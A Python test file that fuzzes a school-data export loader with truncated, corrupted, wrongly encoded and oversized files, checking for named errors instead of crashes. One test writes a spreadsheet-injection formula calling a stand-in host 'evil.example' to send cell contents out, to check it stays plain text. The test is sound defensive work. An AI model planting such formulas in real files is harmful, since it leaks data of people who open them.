"""Hostile export files: truncated CSV and Parquet, binary junk, wrong encodings, a
100 MB cell, spreadsheet formulas. Reading an export must end in a clean import or one
`InputTableError` naming the file, never another exception; `baoxue validate` and the
weekly batch print a message (no traceback) and write nothing.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from features.sources import load_export, read_raw_table
from features.tables import COLUMNS, REQUIRED_TABLES
from features.validation import InputTableError, parse_table
from serving.cli import app
from serving.settings import get_settings
from tests.features.export_factory import write_valid_export

FILES = sorted(REQUIRED_TABLES)
HYPOTHESIS = settings(
    max_examples=15,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture(scope="module")
def valid_csv(tmp_path_factory) -> Path:
    return write_valid_export(tmp_path_factory.mktemp("valid") / "csv")


@pytest.fixture(scope="module")
def valid_parquet(tmp_path_factory) -> Path:
    return write_valid_export(tmp_path_factory.mktemp("valid") / "parquet", fmt="parquet")


def _copy(source: Path, target: Path) -> Path:
    if target.exists():
        shutil.rmtree(target)
    shutil.copytree(source, target)
    return target


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def _records(path: Path) -> int | None:
    """Data records of a CSV as the csv module reads them (blank lines skipped), or None
    when it is not UTF-8 text."""
    try:
        text = path.read_text(encoding="utf-8")
    except UnicodeDecodeError:
        return None
    rows = [row for row in csv.reader(io.StringIO(text)) if any(cell.strip() for cell in row)]
    return max(len(rows) - 1, 0)


def assert_named_error(folder: Path, broken: str) -> InputTableError:
    """Reading fails with one InputTableError that names the broken file (and maybe others
    that no longer agree with it), without a traceback; the folder is left as it was."""
    before = _snapshot(folder)
    with pytest.raises(InputTableError) as info:
        load_export(folder)
    files = {v.file for v in info.value.violations}
    assert broken in files, files
    assert files <= set(before), files
    assert "Traceback" not in info.value.report()
    assert _snapshot(folder) == before
    return info.value


def assert_named_or_read_as_written(
    folder: Path, name: str, valid: Path, *, blamed: bool | None = None
) -> None:
    """A damaged CSV that may still be a valid table: either one InputTableError naming
    files of the export, or a load in which the damaged table has exactly the records its
    file now holds and every other table is the valid export's. `blamed`: the error must
    (True) or must not (False: a prefix of valid rows, so only the files that refer to
    the missing rows) name the damaged file. The folder is left as it was."""
    before = _snapshot(folder)
    damaged = f"{name}.csv"
    try:
        loaded = load_export(folder)
    except InputTableError as error:
        files = {v.file for v in error.violations}
        assert files and files <= set(before), files
        if blamed is not None:
            assert (damaged in files) is blamed, files
        assert "Traceback" not in error.report()
    else:
        assert len(getattr(loaded.tables, name)) == _records(folder / damaged), name
        reference = load_export(valid).tables
        for other in FILES:
            if other != name:
                pd.testing.assert_frame_equal(
                    getattr(loaded.tables, other), getattr(reference, other)
                )
    assert _snapshot(folder) == before


@HYPOTHESIS
@given(
    name=st.sampled_from(FILES),
    cut=st.floats(min_value=0.0, max_value=0.999),
)
def test_a_truncated_csv_is_named_or_imported(valid_csv, tmp_path, name, cut) -> None:
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / f"{name}.csv"
    data = path.read_bytes()
    kept = data[: int(len(data) * cut)]
    path.write_bytes(kept)
    if b"\n" not in kept:  # not even the header line: nothing to read
        assert_named_error(folder, path.name)
    elif kept.endswith(b"\n") and _records(path):  # whole rows: a valid table, fewer rows
        assert_named_or_read_as_written(folder, name, valid_csv, blamed=False)
    else:  # a row cut in two: named, unless its cells still make a valid row
        blamed = None if _cells_still_valid(path, name) else True
        assert_named_or_read_as_written(folder, name, valid_csv, blamed=blamed)


def _cells_still_valid(path: Path, name: str) -> bool:
    """Every cell of the cut file still reads as its column's type ("2024-09-1" is a date:
    a calendar cut there is a shorter valid table, and what it breaks is in other files)."""
    read = read_raw_table(path)
    if read.frame is None or read.findings:
        return False
    present = [c for c in COLUMNS[name] if c in read.frame.columns]
    return not parse_table(name, read.frame[present], path.name).findings


@pytest.mark.parametrize("name", ["attendance", "grades", "status_events"])
def test_a_csv_cut_after_a_row_loads_those_rows_and_cut_within_one_names_it(
    valid_csv, tmp_path, name
) -> None:
    """Tables nothing else refers to: cut after a row, the rows before it load; cut
    inside the next row, its missing cells are named."""
    lines = (valid_csv / f"{name}.csv").read_bytes().split(b"\n")
    half = len(lines) // 2
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / f"{name}.csv"
    path.write_bytes(b"\n".join(lines[:half]) + b"\n")
    loaded = load_export(folder)
    assert len(getattr(loaded.tables, name)) == half - 1
    path.write_bytes(b"\n".join(lines[:half]) + b"\n" + lines[half][:5])
    error = assert_named_error(folder, path.name)
    # the cut row is line half + 1 of the file, as a spreadsheet numbers it
    assert {(v.file, v.rule, v.row) for v in error.violations} == {
        (path.name, "missing_value", half + 1)
    }


@HYPOTHESIS
@given(
    name=st.sampled_from(FILES),
    cut=st.floats(min_value=0.0, max_value=0.999),
    junk=st.binary(max_size=64),
)
def test_a_truncated_or_corrupted_parquet_is_named(valid_parquet, tmp_path, name, cut, junk):
    folder = _copy(valid_parquet, tmp_path / "export")
    path = folder / f"{name}.parquet"
    data = path.read_bytes()
    at = int(len(data) * cut)
    path.write_bytes(data[:at] + junk)
    error = assert_named_error(folder, path.name)
    assert {v.file for v in error.violations} == {path.name}  # unreadable: nothing else read


@HYPOTHESIS
@given(name=st.sampled_from(FILES), junk=st.binary(min_size=1, max_size=2048))
def test_binary_junk_is_named(valid_csv, tmp_path, name, junk) -> None:
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / f"{name}.csv"
    path.write_bytes(junk)
    assert_named_error(folder, path.name)


@HYPOTHESIS
@given(
    name=st.sampled_from(FILES),
    at=st.floats(min_value=0.0, max_value=1.0),
    text=st.text(max_size=40),
)
def test_random_text_spliced_into_a_csv_is_named_or_imported(valid_csv, tmp_path, name, at, text):
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / f"{name}.csv"
    data = path.read_text(encoding="utf-8")
    i = int(len(data) * at)
    path.write_text(data[:i] + text + data[i:], encoding="utf-8")
    assert_named_or_read_as_written(folder, name, valid_csv)


GBK_WARNING = "schools.csv is GBK-encoded (as Excel saves it); read it as GB18030."


@pytest.mark.parametrize(
    ("encoding", "names", "warning"),
    [
        ("utf-16", None, None),  # neither UTF-8 nor GB18030: named
        ("utf-32", None, None),
        ("latin-1", ["????", "??????"], None),  # saved with "?" for each hanzi: read as is
        ("gb18030", ["石桥小学", "石桥初级中学"], GBK_WARNING),
        ("big5", ["ホ?\ue616?", "ホ?\ue04b?い?"], GBK_WARNING),  # decodes as GB18030: warned
    ],
)
def test_wrong_encodings_are_named_or_read_with_a_warning(
    valid_csv, tmp_path, encoding, names, warning
) -> None:
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "schools.csv"
    text = path.read_text(encoding="utf-8")
    try:
        path.write_bytes(text.encode(encoding))
    except UnicodeEncodeError:
        path.write_bytes(text.encode(encoding, errors="replace"))
    if names is None:
        error = assert_named_error(folder, path.name)
        assert [(v.file, v.rule) for v in error.violations] == [("schools.csv", "encoding")]
        return
    loaded = load_export(folder)
    assert loaded.tables.schools["name"].tolist() == names
    assert loaded.tables.schools["school_id"].tolist() == ["P01", "J01"]
    about_schools = [w for w in loaded.warnings if w.startswith("schools.csv")]
    assert [w.startswith(warning) for w in about_schools] == ([True] if warning else [])


def test_a_100_mb_cell_is_read_as_text_or_refused_without_echoing_it(valid_csv, tmp_path):
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "schools.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[1].split(",")
    cells[header.index("name")] = "x" * 100_000_000
    with path.open("w", encoding="utf-8") as f:
        f.write("\n".join([lines[0], ",".join(cells), *lines[2:]]) + "\n")
    try:
        tables = load_export(folder).tables
    except InputTableError as error:
        report = error.report()
        assert "schools.csv" in report
        assert "x" * 1000 not in report  # the cell's value is never echoed
    else:  # a school's name is free text: read whole, as text
        assert tables.schools["name"].str.len().max() == 100_000_000


def test_formulas_in_cells_stay_text_and_never_run(valid_csv, tmp_path) -> None:
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "schools.csv"
    formula = '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[1].split(",")
    cells[header.index("name")] = formula
    lines[1] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    tables = load_export(folder).tables
    names = tables.schools["name"].tolist()
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in names  # kept as plain text


@pytest.fixture
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("BAOXUE_PATHS__HOME", str(tmp_path / "home"))
    get_settings.cache_clear()
    yield tmp_path / "home"
    get_settings.cache_clear()


@pytest.mark.parametrize("damage", ["truncate", "junk", "utf16"])
def test_validate_and_score_print_a_message_and_write_nothing(valid_csv, tmp_path, home, damage):
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "attendance.csv"
    data = path.read_bytes()
    if damage == "truncate":
        path.write_bytes(data[: len(data) // 3] + b'"unclosed')
    elif damage == "junk":
        path.write_bytes(b"\x00\xff\xfe" * 500)
    else:
        path.write_bytes(data.decode("utf-8").encode("utf-16"))
    runner = CliRunner()
    validated = runner.invoke(app, ["validate", str(folder)])
    assert validated.exit_code == 1, validated.output
    assert "attendance.csv" in validated.output and "Traceback" not in validated.output
    scored = runner.invoke(app, ["score", str(folder), "--as-of", "2024-10-14"])
    assert scored.exit_code == 1, scored.output
    assert "attendance.csv" in scored.output and "Traceback" not in scored.output
    assert not (home / "lists").exists()  # nothing written: no lists
    assert not (home / "baoxue.db").exists()  # the export is read before the database


def test_a_truncated_school_year_without_dates_is_named_not_a_crash(valid_csv, tmp_path):
    """Found by the truncation fuzz: `2024` cut to `20` with empty enrolment dates made
    the default start date (20-08-01) overflow pandas' timestamps."""
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "enrolments.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[1].split(",")
    cells[header.index("school_year")] = "20"
    cells[header.index("start_date")] = cells[header.index("end_date")] = ""
    lines[1] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(InputTableError) as info:
        load_export(folder)
    [violation] = info.value.violations
    assert (violation.file, violation.rule, violation.column) == (
        "enrolments.csv",
        "out_of_range",
        "school_year",
    )


@pytest.mark.parametrize("day", ["2300-01-01", "2262-04-12", "1600-01-01"])
def test_a_date_pandas_cannot_hold_is_not_a_date_not_a_crash(valid_csv, tmp_path, day):
    """Found by a longer fuzz run: a mistyped year past 2262 overflowed the nanosecond
    timestamps (OutOfBoundsDatetime) instead of being named."""
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "attendance.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[1].split(",")
    cells[header.index("date")] = day
    lines[1] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(InputTableError) as info:
        load_export(folder)
    [violation] = info.value.violations
    found = (violation.file, violation.rule, violation.column)
    assert found == ("attendance.csv", "bad_date", "date")
